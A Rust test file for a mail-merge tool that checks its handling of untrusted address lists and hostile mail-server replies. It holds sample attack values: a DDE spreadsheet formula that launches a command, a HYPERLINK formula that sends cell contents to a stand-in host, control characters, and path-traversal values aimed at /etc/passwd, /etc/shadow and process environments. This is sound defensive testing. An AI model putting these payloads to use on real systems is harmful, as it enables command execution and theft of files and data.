//! Untrusted lists and untrusted servers (issue: spreadsheet formulas, control characters and
//! a damaged journal): each test feeds the hostile input through a real run against loopback
//! DNS and SMTP servers and checks what reaches the results file.

use std::sync::Arc;

use crate::support::*;
use mailmerge::journal::JournalError;
use mailmerge::sandbox::dns::loopback;
use mailmerge::sandbox::receiver::{ReceiverConfig, Rule};
use mailmerge::{RunError, run};

/// A receiver that bounces `evil@` with a reply carrying a formula and control characters.
fn hostile_mx() -> ReceiverConfig {
    ReceiverConfig {
        script: Arc::new(|rcpt: &str, _| {
            if rcpt.starts_with("evil@") {
                Rule::Rcpt(
                    550,
                    "=HYPERLINK(\"http://x.test/?\"&B2) \u{1b}[31mred\u{0} bell\u{7}".into(),
                )
            } else {
                Rule::Accept
            }
        }),
        ..ReceiverConfig::default()
    }
}

async fn servers() -> (mailmerge::sandbox::dns::DnsServer, Mxs) {
    let mut z = zone();
    z.mx("example.com", 10, "mx.example.com")
        .addr("mx.example.com", loopback(2));
    (dns(z).await, Mxs::start(vec![(2, hostile_mx())]).await)
}

const LIST: &str = "email,name,note\n\
                    ann@example.com,=cmd|' /C calc'!A0,+SUM(1+1)\n\
                    evil@example.com,@SUM(1),-2+3\n";

#[tokio::test]
async fn formulas_from_the_list_and_from_a_server_reply_are_defused() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    run(job.config(&dns, mxs.port)).await.expect("run");
    let rows = read_results(&job.results);
    let ann = row(&rows, "ann@example.com");
    assert_eq!(ann["status"], "delivered");
    assert_eq!(ann["name"], "'=cmd|' /C calc'!A0");
    assert_eq!(ann["note"], "'+SUM(1+1)");
    let evil = row(&rows, "evil@example.com");
    assert_eq!(evil["status"], "bounced");
    assert_eq!(evil["name"], "'@SUM(1)");
    assert_eq!(evil["note"], "'-2+3");
    // The reply text starts with the formula: defused, and its control characters escaped.
    let response = &evil["response"];
    assert!(response.starts_with("'=HYPERLINK("), "{response}");
    assert!(
        !response.chars().any(char::is_control),
        "no control character reaches the report: {response:?}"
    );
    assert!(
        response.contains("\\u{1b}[31mred\\u{0} bell\\u{7}"),
        "{response}"
    );
}

#[tokio::test]
async fn raw_csv_writes_cells_as_they_are() {
    let (dns, mxs) = servers().await;
    let job = Job::new(LIST, TEMPLATE);
    let mut cfg = job.config(&dns, mxs.port);
    cfg.raw_csv = true;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    assert_eq!(row(&rows, "ann@example.com")["name"], "=cmd|' /C calc'!A0");
    assert!(row(&rows, "evil@example.com")["response"].starts_with("=HYPERLINK("));
}

#[tokio::test]
async fn a_damaged_journal_record_stops_the_next_run_unless_repaired() {
    let (dns, mxs) = servers().await;
    let job = Job::new(
        "email,name,note\na@example.com,A,x\nb@example.com,B,y\nc@example.com,C,z\n",
        TEMPLATE,
    );
    run(job.config(&dns, mxs.port)).await.expect("first run");
    assert_eq!(mxs.get(2).received().len(), 3);
    let journal = mailmerge::journal::path_for(&job.results);
    let text = std::fs::read_to_string(&journal).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    assert_eq!(lines.len(), 4, "header and three records: {text}");
    // Damage the second record (line 3): the row it records would silently be sent again.
    lines[2] = lines[2].replacen('{', "{garbage", 1);
    std::fs::write(&journal, lines.join("\n") + "\n").unwrap();
    match run(job.config(&dns, mxs.port)).await {
        Err(RunError::Journal(JournalError::Damaged { line, .. })) => assert_eq!(line, 3),
        other => panic!("expected a damaged-journal error, got {other:?}"),
    }
    assert_eq!(mxs.get(2).received().len(), 3, "nothing sent");
    let mut cfg = job.config(&dns, mxs.port);
    cfg.journal_repair = true;
    let report = run(cfg).await.expect("repaired run");
    assert_eq!(report.plan.already_done, 2);
    assert_eq!(
        mxs.get(2).received().len(),
        4,
        "only the damaged row is sent again"
    );
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("skipped 1 damaged record")),
        "{:?}",
        report.warnings
    );
}

const ATTACH: &str = "From: Sender <news@sender.test>\nTo: {{name}} <{{email}}>\nSubject: Your document\nAttachment: {{note}}\n\nHi {{name}}, your document is attached.\n";

#[tokio::test]
async fn attachment_values_cannot_reach_outside_the_template_folder() {
    let (dns, mxs) = servers().await;
    let hostile = [
        "../../../../etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "link.txt",
        "missing.txt",
    ];
    let mut list = String::from("email,name,note\nok@example.com,Ok,doc.txt\n");
    for (i, value) in hostile.iter().enumerate() {
        list.push_str(&format!("h{i}@example.com,H,{value}\n"));
    }
    let job = Job::new(&list, ATTACH);
    std::fs::write(job.path("doc.txt"), "the document").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", job.path("link.txt")).unwrap();
    run(job.config(&dns, mxs.port)).await.expect("run");
    let rows = read_results(&job.results);
    assert_eq!(row(&rows, "ok@example.com")["status"], "delivered");
    for (i, value) in hostile.iter().enumerate() {
        let r = row(&rows, &format!("h{i}@example.com"));
        assert_eq!(
            (r["status"].as_str(), r["category"].as_str()),
            ("invalid", "invalid-input"),
            "{value}"
        );
        // One neutral message naming the value as given: no resolved path, no OS error.
        assert!(
            r["response"].ends_with(&format!("attachment not available: {value}")),
            "{value}: {}",
            r["response"]
        );
        assert!(!r["response"].contains("No such file"), "{}", r["response"]);
    }
    let got = mxs.get(2).received();
    assert_eq!(got.len(), 1, "only the legitimate row was sent");
    let text = String::from_utf8_lossy(&got[0].data);
    assert!(!text.contains("root:"), "no system file travelled");
}

#[tokio::test]
async fn an_oversized_row_is_invalid_instead_of_eating_memory() {
    let (dns, mxs) = servers().await;
    let big = "x".repeat(300 * 1024);
    let job = Job::new(
        &format!("email,name,note\nbig@example.com,{big},n\nsmall@example.com,Small,n\n"),
        TEMPLATE,
    );
    let mut cfg = job.config(&dns, mxs.port);
    cfg.message.max_message_size = 256 * 1024;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    let r = row(&rows, "big@example.com");
    assert_eq!(r["status"], "invalid");
    assert!(
        r["response"].contains("--max-message-size"),
        "{}",
        r["response"]
    );
    assert_eq!(row(&rows, "small@example.com")["status"], "delivered");
}

#[tokio::test]
async fn an_oversized_field_makes_its_row_invalid_and_the_rest_goes_on() {
    let (dns, mxs) = servers().await;
    let big = "y".repeat(5000);
    let job = Job::new(
        &format!("email,name,note\nbig@example.com,B,{big}\nsmall@example.com,Small,n\n"),
        TEMPLATE,
    );
    let mut cfg = job.config(&dns, mxs.port);
    cfg.list.max_field_size = 4096;
    run(cfg).await.expect("run");
    let rows = read_results(&job.results);
    let r = row(&rows, "big@example.com");
    assert_eq!(r["status"], "invalid");
    assert!(
        r["response"].contains("line 2: field \"note\" is 5000 bytes, over the limit of 4096"),
        "{}",
        r["response"]
    );
    assert_eq!(row(&rows, "small@example.com")["status"], "delivered");
    assert_eq!(mxs.get(2).received().len(), 1);
}
